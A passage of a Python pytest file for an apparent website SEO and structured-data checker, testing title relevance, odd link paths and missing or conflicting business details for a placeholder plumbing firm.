        "Xenon Quartz Vector plumber",  # of the heading
        "Xenon Quartz Vector shower",  # of the description
        "Xenon Quartz Vector Your",  # four letters are a word
    ],
)
def test_a_title_with_a_word_of_the_business_is_its_own(title):
    assert "title-unrelated" not in said(titled(title))


@pytest.mark.parametrize(
    "lead",
    [
        Lead(None, address=LEAD.address),
        Lead(LEAD.name),
        Lead("brightwater.example", address=LEAD.address),
    ],
)
def test_a_title_is_unrelated_only_to_a_business_that_is_known(lead):
    assert "title-unrelated" not in said(titled("Xenon Quartz Vector Yonder"), lead=lead)


@pytest.mark.parametrize(
    ("path", "odd"),
    [
        ("/our%20vans", True),
        ("/Our-vans", True),
        ("/our-vans", False),
        ("/caf%C3%A9", False),
        ("/vans?Size=XL", False),
    ],
)
def test_an_address_is_odd_with_spaces_or_capitals_in_its_path(path, odd):
    found = said(html(body=BODY + f"<a href='{path}'>vans</a>"))
    assert found.get("odd-addresses") == (path if odd else None)


@pytest.mark.parametrize(
    ("old", "new", "code", "evidence"),
    [
        ('"name"', '"nickname"', "data-incomplete", "Plumber has no name"),
        ('"address"', '"addr"', "data-incomplete", "“Brightwater Plumbing” has no address"),
        ('"telephone"', '"phon"', "data-sparse", "“Brightwater Plumbing” has no telephone"),
        ('"url"', '"urk"', "data-sparse", "“Brightwater Plumbing” has no web address"),
        ('"openingHours"', '"hourz"', "data-sparse", "“Brightwater Plumbing” has no opening hours"),
        ('"geo"', '"gea"', "data-sparse", "“Brightwater Plumbing” has no place on the map"),
        (
            "555-0142",
            "555-0199",
            "data-differs",
            "the data say (319) 555-0199, the pages (319) 555-0142",
        ),
    ],
)
def test_structured_data_say_what_they_lack(old, new, code, evidence):
    assert said(head(DATA, more=DATA.replace(old, new)))[code] == evidence
